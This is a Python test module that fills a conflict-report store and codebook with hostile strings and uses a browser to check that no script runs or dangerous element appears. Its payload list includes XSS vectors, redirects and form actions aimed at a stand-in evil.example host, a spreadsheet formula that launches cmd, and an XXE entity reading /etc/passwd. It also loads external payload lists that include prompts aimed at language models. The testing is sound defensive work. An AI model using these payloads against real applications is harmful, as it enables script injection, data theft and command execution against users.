"""Words that would be markup, script or commands anywhere else; stores and codebooks full of them,
the same with harmless words, and what finds out in a browser whether they did anything."""

import json
import re
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, timedelta
from itertools import islice
from pathlib import Path
from typing import NamedTuple

import pytest
from playwright.sync_api import Page

from foglift import codebook
from foglift import store as stores
from foglift.model import (
    Attribution,
    Claim,
    Control,
    Count,
    Event,
    Issue,
    Judgement,
    Mention,
    Report,
    Span,
    When,
    Where,
    report_id,
    sealed,
)

from .conftest import Browse

SHARED = Path(__file__).parents[3] / "shared" / "hostile"
OWN = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea></title></style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "` onclick=alert(1) ",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "<svg><script href=data:,alert(1) />",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form action=//evil.example><button autofocus>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<a href=javascript:alert(1)>who</a>",
    "javascript:alert(1)",
    " java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/%0d%0aSet-Cookie:x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)",
    "\u2028alert(1)\u2029//",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "${alert(1)}`-alert(1)-`",
    "]]><script>alert(1)</script>",
    "\u202egnp.evil\u202c",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "Abu<img/src=x/onerror=alert(1)>Omar",  # what may be a name
    '=HYPERLINK("//evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)
DAY, DAYS = date(2024, 12, 5), 40  # the last of them, and over how many the reports are spread
HAMA = "wof:421202161"

# The same words with a sign for each that means something to a browser, and none to it.
_LIKE = str.maketrans("<>\"'`&=/\\:;(){}%#", "‹›“’‵＆＝⁄⧵∶⁏❨❩❴❵٪＃")


def harmless(words: Sequence[str]) -> Sequence[str]:
    """Words of the same shape in which nothing is markup, script, an address or an escape."""
    return tuple(one.translate(_LIKE) for one in words)


def shared() -> Sequence[str]:
    """Thousands of script injections."""
    if not (SHARED / "xss.json").is_file():
        pytest.skip("needs ../shared/hostile/xss.json")
    found = json.loads((SHARED / "xss.json").read_text(encoding="utf-8"))
    return tuple(dict.fromkeys(re.sub(r"[\ud800-\udfff]", "?", one) for one in found))


def lists() -> Sequence[str]:
    """Spreadsheet formulas, entities of XML, addresses of a network within, paths out of an
    archive, words to a language model: each line of the lists, and each file that is one payload.
    """
    path = SHARED / "payload-lists.zip"
    if not path.is_file():
        pytest.skip("needs ../shared/hostile/payload-lists.zip")
    found = list[str]()
    with zipfile.ZipFile(path) as lists:
        for name in sorted(lists.namelist()):
            if name.endswith(("/", ".py")):
                continue
            text = lists.read(name).decode("utf-8", "replace")
            found += (line.strip() for line in text.splitlines())
            if not name.endswith((".md", ".txt")):
                found.append(" ".join(text.split()))
    return tuple(dict.fromkeys(filter(None, found)))


class Shape(NamedTuple):
    """How many words stand in one report, and how many claims are made of each."""

    together: int
    claims: int


FEW, MANY = Shape(8, 3), Shape(32, 1)
SOURCES = {"own": (lambda: OWN, FEW), "shared": (shared, MANY), "lists": (lists, MANY)}


# Runs before every script of a page: what a payload would call tells us.
TRAP = """
window.sprung = [];
for (const name of ["alert", "prompt", "confirm", "print"])
  window[name] = (...words) => { window.sprung.push(`${name}(${words})`); };
"""
# What no page of ours has, wherever it came from.
STRANGE = """() => {
  const found = [...window.sprung];
  const filed = location.protocol === "file:";  // a snapshot
  for (const one of document.querySelectorAll("*")) {
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "FRAME", "APPLET", "MARQUEE"].includes(one.tagName))
      found.push(`an element: ${one.outerHTML.slice(0, 200)}`);
    if (one.matches("meta[http-equiv]")
        && !(filed && one.httpEquiv === "Content-Security-Policy"))
      found.push(`an element: ${one.outerHTML.slice(0, 200)}`);
    if (one.tagName === "SCRIPT" && !one.src && !/json/.test(one.type))
      found.push(`a script: ${one.outerHTML.slice(0, 200)}`);
    for (const {name, value} of one.attributes) {
      if (name.startsWith("on")) found.push(`a handler: ${one.outerHTML.slice(0, 200)}`);
      if (["href", "src", "action", "formaction", "data", "srcset", "ping"].includes(name)) {
        if (!URL.canParse(value, document.baseURI)) continue;  // leads nowhere
        const scheme = new URL(value, document.baseURI).protocol;
        if (!["http:", "https:", "data:", "blob:", ...(filed ? ["file:"] : [])].includes(scheme)
            || (scheme === "data:" && one.tagName !== "LINK" && one.tagName !== "IMG"))
          found.push(`an address: ${one.outerHTML.slice(0, 200)}`);
      }
    }
  }
  return found;
}"""
ELEMENTS = """() => {
  const found = {};
  for (const one of document.querySelectorAll("*:not(.unseen)"))
    found[one.tagName] = (found[one.tagName] ?? 0) + 1;
  return found;
}"""


# ------------------------------------------------------------------------------ the hostile store


def readings(
    payloads: Sequence[str], shape: Shape
) -> Iterator[tuple[Report, list[Claim], list[Issue]]]:
    """Reports that hold the payloads in everything that comes from outside."""
    near = [place.id for place in codebook.load().gazetteer.near(HAMA, 200, 5000)]
    for n in range(0, len(payloads), shape.together):
        some = payloads[n : n + shape.together]
        towns = [near[(n + k) % len(near)] for k in range(len(some))]  # others for the next
        words = " · ".join(some)
        address = next((one for one in some if re.match(r"\W*[\w\s]+:", one)), some[0])
        lines, spans, at = list[str](), list[tuple[int, str]](), 0
        for payload in some:
            line = f"Fighters took the town, {payload} said on Thursday in report {n}."
            lines.append(line)
            spans.append((at, payload))
            at += len(line) + 2
        text, title = "\n\n".join(lines), f"Report {n}: {words}"
        day = DAY - timedelta(days=n // shape.together % DAYS)
        id = report_id(text, title, words, day)
        report = Report(
            id, words, "news", text, title, day, "known", some[0][:8], address, f"{n}/{words}"
        )
        claims = [
            claim
            for k, (place, (start, payload)) in enumerate(zip(towns, spans, strict=True))
            for claim in islice(told(id, start, payload, place, day, k), shape.claims)
        ]
        yield report, claims, [Issue("warning", id, words, Span(0, 9))]


def told(
    report: str, start: int, payload: str, place: str, day: date, first: int
) -> Iterator[Claim]:
    """Claims of every common content said by the payload, all in the sentence at `start`; which
    of them comes first goes by a number."""
    said = Span(start + 24, start + 24 + len(payload))
    by = (
        Attribution(Mention(said, "", payload), "claims", "party", "", payload, said),
        Attribution(Mention(said, f"hostile-s{start % 7}", payload), "reports", "monitor"),
    )
    fighters = Mention(Span(start, start + 8), f"hostile-a{start % 7}", payload)
    town = Where(Mention(Span(start + 14, start + 22), place, payload), bearing=payload)
    when = When(day, day, "day", None, payload)
    contents = (
        Control("takes", fighters),
        Event("AIRSTRIKE", "", (fighters,), (Mention(said, "", payload),)),
        Count("killed", 3, 5, Mention(said, "", payload)),
    )
    for n in range(len(contents)):
        content = contents[(first + n) % len(contents)]
        evidence = (Span(start, said.end), said)
        yield sealed(Claim("", report, evidence, content, by, town, when, why=(payload,)))


def unguarded(browse: Browse) -> Page:
    """A page that no content policy guards, and that tells what was called on it."""
    page = browse(bypass_csp=True)
    page.set_default_timeout(60_000)
    page.add_init_script(TRAP)
    return page


Kept = list[tuple[str, list[str]]]  # of each report its id and those of its claims


def keep(path: Path, payloads: Sequence[str], shape: Shape) -> Kept:
    """Writes the store."""
    kept: Kept = []
    with stores.open(path) as store:
        store.rows("PRAGMA synchronous = OFF")
        for report, claims, issues in readings(payloads, shape):
            store.add(report, claims, issues, "by hand")
            kept.append((report.id, [claim.id for claim in claims]))
        for (_, claims), payload in zip(kept, payloads, strict=False):
            store.judge(Judgement("confirm", (claims[0],), payload, DAY, payload))
    return kept


def overlay(folder: Path, payloads: Sequence[str]) -> None:
    """A codebook whose names are payloads."""
    (folder / "actors").mkdir(parents=True)
    (folder / "sources").mkdir()
    actors, sources = [], []
    for n in range(7):
        name = " ".join(payloads[n::7])[:2000] or "nobody"
        name = " ".join(name.split())
        actors.append(
            {
                "id": f"hostile-a{n}",
                "name": f"Actor {name}",
                "kind": "rebel",
                "countries": ["SY"],
                "sides": [{"side": "hostile.one", "since": "2011-01-01"}],
                "example": f"The Actor {name} took a village.",
            }
        )
        sources.append(
            {
                "id": f"hostile-s{n}",
                "name": f"Source {name}",
                "role": "monitor",
                "example": f"The Source {name} said so.",
            }
        )
    war = {
        "id": "hostile",
        "name": f"War {payloads[0]}",
        "countries": ["SY"],
        "sides": [{"id": "hostile.one", "name": f"Side {payloads[0]}"}],
        "actors": actors,
    }
    (folder / "actors" / "hostile.yml").write_text(json.dumps(war), encoding="utf-8")
    (folder / "sources" / "hostile.yml").write_text(json.dumps(sources), encoding="utf-8")


# ------------------------------------------------------------------------------------ the walks


def walk(page: Page, paths: Iterable[str]) -> list[str]:
    """What is strange on the pages, each with its address."""
    found = []
    for path in paths:
        answer = page.goto(path)
        assert answer is not None
        if answer.status >= 500:
            found.append(f"{path}: {answer.status}")
        found += strange(page)
    return found


def strange(page: Page) -> list[str]:
    """What is strange on the page that is open."""
    return [f"{page.url}: {one}" for one in page.evaluate(STRANGE)]


def elements(page: Page) -> dict[str, int]:
    """How many elements of each name the open page has, without the signs that stand for
    characters that cannot be seen."""
    found: dict[str, int] = page.evaluate(ELEMENTS)
    return found
